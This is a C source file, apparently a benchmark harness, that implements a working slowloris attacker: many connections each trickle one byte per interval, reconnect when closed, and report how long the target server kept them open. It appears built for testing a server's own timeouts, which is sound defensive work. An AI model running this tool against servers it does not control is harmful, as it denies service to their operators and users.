/*
 * A slowloris attacker that costs almost no CPU, so that it does not steal time from the load generator it shares a
 * core with: COUNT connections each send one byte every INTERVAL_MS and never a delimiter; a connection the server
 * closes is replaced at once. Prints, as one JSON line, how long after its first byte each closed connection lived.
 *
 *   gcc -O2 -o /tmp/sockeye-slowloris bench/slowloris.c
 *   /tmp/sockeye-slowloris HOST PORT COUNT SECONDS [INTERVAL_MS=1000] [spread|burst]
 *
 * `burst` connects all COUNT at once (so the server times them out together, every message-timeout); `spread` (the
 * default) staggers the first connects over one interval, as independent attackers would arrive.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

typedef struct {
	int fd;
	long long connect_at; /* when to (re)connect, 0 once connected */
	long long first_byte; /* when the first byte went out, 0 before */
	long long next_send;
} attacker;

static struct sockaddr_in address;
static long long interval;
static long long *lifetimes;
static size_t closed, capacity, connect_failures, bytes_sent;

static long long now_ms(void) {
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec * 1000LL + ts.tv_nsec / 1000000;
}

static void open_one(int epoll, attacker *a, size_t index, long long now) {
	a->fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
	if (a->fd < 0 || (connect(a->fd, (struct sockaddr *) &address, sizeof address) < 0 && errno != EINPROGRESS)) {
		if (a->fd >= 0) {
			close(a->fd);
		}
		connect_failures++;
		a->fd = -1;
		a->connect_at = now + 100;
		return;
	}
	struct epoll_event event = { .events = EPOLLIN | EPOLLRDHUP, .data.u64 = index };
	epoll_ctl(epoll, EPOLL_CTL_ADD, a->fd, &event);
	a->connect_at = 0;
	a->first_byte = 0;
	a->next_send = now;
}

static void record_close(attacker *a, long long now) {
	if (a->first_byte) {
		if (closed == capacity) {
			capacity = capacity ? capacity * 2 : 4096;
			lifetimes = realloc(lifetimes, capacity * sizeof *lifetimes);
		}
		lifetimes[closed++] = now - a->first_byte;
	}
	close(a->fd);
	a->fd = -1;
	a->connect_at = now; /* replaced at once */
}

static int by_value(const void *a, const void *b) {
	long long x = *(const long long *) a, y = *(const long long *) b;
	return (x > y) - (x < y);
}

int main(int argc, char **argv) {
	if (argc < 5) {
		fprintf(stderr, "usage: %s HOST PORT COUNT SECONDS [INTERVAL_MS=1000] [spread|burst]\n", argv[0]);
		return 2;
	}
	address.sin_family = AF_INET;
	address.sin_port = htons(atoi(argv[2]));
	inet_pton(AF_INET, argv[1], &address.sin_addr);
	size_t count = strtoul(argv[3], NULL, 10);
	long long seconds = atoll(argv[4]);
	interval = argc > 5 ? atoll(argv[5]) : 1000;
	int burst = argc > 6 && strcmp(argv[6], "burst") == 0;

	int epoll = epoll_create1(0);
	attacker *attackers = calloc(count, sizeof *attackers);
	long long start = now_ms(), end = start + seconds * 1000;
	for (size_t i = 0; i < count; i++) {
		attackers[i].fd = -1;
		attackers[i].connect_at = start + (burst ? 0 : (long long) (i * interval / count));
	}
	struct epoll_event events[256];
	for (long long now = start; now < end; now = now_ms()) {
		long long next = end;
		for (size_t i = 0; i < count; i++) {
			attacker *a = &attackers[i];
			if (a->fd < 0 && a->connect_at <= now) {
				open_one(epoll, a, i, now);
			}
			if (a->fd >= 0 && a->next_send <= now) {
				ssize_t n = send(a->fd, "x", 1, MSG_NOSIGNAL);
				if (n == 1) {
					bytes_sent++;
					if (!a->first_byte) {
						a->first_byte = now;
					}
					a->next_send = now + interval;
				}
				else if (errno == EAGAIN || errno == ENOTCONN || errno == EINPROGRESS) {
					a->next_send = now + 10; /* still connecting, or the server stopped reading */
				}
				else {
					record_close(a, now);
				}
			}
			long long due = a->fd >= 0 ? a->next_send : a->connect_at;
			if (due < next) {
				next = due;
			}
		}
		int timeout = (int) (next > now ? next - now : 0);
		int ready = epoll_wait(epoll, events, 256, timeout);
		long long at = now_ms();
		for (int e = 0; e < ready; e++) {
			attacker *a = &attackers[events[e].data.u64];
			char sink[256];
			ssize_t n = recv(a->fd, sink, sizeof sink, 0);
			if (n == 0 || (n < 0 && errno != EAGAIN) || (events[e].events & (EPOLLRDHUP | EPOLLHUP | EPOLLERR))) {
				record_close(a, at);
			}
		}
	}
	size_t still_open = 0;
	for (size_t i = 0; i < count; i++) {
		if (attackers[i].fd >= 0) {
			still_open++;
			close(attackers[i].fd);
		}
	}
	qsort(lifetimes, closed, sizeof *lifetimes, by_value);
	printf("{\"closed\": %zu, \"stillOpen\": %zu, \"connectFailures\": %zu, \"bytesSent\": %zu, "
			"\"lifetimeMillis\": {\"min\": %lld, \"p50\": %lld, \"p99\": %lld, \"max\": %lld}}\n",
			closed, still_open, connect_failures, bytes_sent, closed ? lifetimes[0] : -1,
			closed ? lifetimes[closed / 2] : -1, closed ? lifetimes[closed * 99 / 100] : -1,
			closed ? lifetimes[closed - 1] : -1);
	return 0;
}
